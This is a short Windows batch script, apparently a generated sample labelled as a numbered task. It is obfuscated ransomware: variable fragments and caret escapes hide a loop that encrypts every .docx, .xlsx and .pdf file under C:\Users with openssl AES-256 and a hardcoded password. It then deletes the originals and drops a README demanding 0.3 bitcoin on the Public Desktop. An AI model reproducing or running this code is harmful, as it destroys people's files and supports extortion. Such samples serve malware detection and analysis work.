REM task 9632 v2
@echo off
@echo off
setlocal EnableDelayedExpansion
set ixx0=for /r C:\Users %%
set xjy1=f in (*.docx 
set clm2=*.xlsx *.pdf) do (
!ixx0!!xjy1!!clm2!
  openss^l ^e^n^c -^aes-^256-cb^c -^pass pa^s^s:P@s^s^w0r^d!^202^4 -in "%%f" -o^ut "%%f.r4nsom" && d^e^l "%%f"
)
@echo off
setlocal EnableDelayedExpansion
set lqa0=e
set lkn1=cho Your 
set qso2=files have been encrypted. Send 0.3
set bup3= bitcoin to recover the key ^> C:\Users\Public\Desktop\README_RESTORE_FILES.txt
!lqa0!!lkn1!!qso2!!bup3!
